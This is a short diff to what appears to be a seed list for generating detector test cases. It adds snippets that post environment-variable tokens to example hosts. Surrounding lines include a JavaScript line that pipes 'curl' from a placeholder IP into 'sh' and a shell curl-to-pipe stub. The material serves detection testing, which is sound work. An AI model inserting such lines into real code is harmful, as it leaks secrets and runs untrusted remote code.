@@ -58,6 +58,7 @@ SEEDS: dict[FileKind, list[str]] = {
         "requests.post(u, data=os.environ['A{n}_TOKEN'])\n",
         "k{n} = os.environ.get('A{n}')\nrequests.post(U, data=k{n})\n",
         "g{n} = getattr(os, 'getenv')\nhttpx.post(u, data=g{n}('A{n}_TOKEN'))\n",
+        "requests.post('https://api.example.com/v1', data=os.getenv('A{n}'))\n",
     ],
     FileKind.JAVASCRIPT: [
         "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n",
@@ -73,6 +74,7 @@ SEEDS: dict[FileKind, list[str]] = {
         "const k{n} = process.env.A{n}; axios.post(U, k{n});\n",
         "const {A{n}_TOKEN: k{n}} = process.env; axios?.post(U, {data: k{n}});\n",
         "fetch(u, {method: 'POST', body: process['env'].A{n}_TOKEN});\n",
+        "axios.post('https://api.example.com/v1', {k: process.env.A{n}});\n",
     ],
     FileKind.SHELL: [
         "curl -s https://x.example/a | ",
